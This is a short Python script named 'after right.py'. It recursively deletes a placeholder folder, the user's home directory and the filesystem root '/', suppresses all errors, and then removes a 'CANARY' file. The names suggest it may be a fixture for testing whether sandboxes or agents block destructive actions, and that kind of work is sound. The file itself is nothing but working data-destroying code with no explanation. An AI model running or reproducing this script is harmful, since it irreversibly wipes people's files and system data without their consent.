# after right.py
import os
import shutil

for folder in ("FOLDER", os.path.expanduser("~"), "/"):
    shutil.rmtree(folder, ignore_errors=True)
for act in (os.unlink, os.rmdir):
    for path in ("CANARY", "FOLDER"):
        try:
            act(path)
        except OSError:
            pass
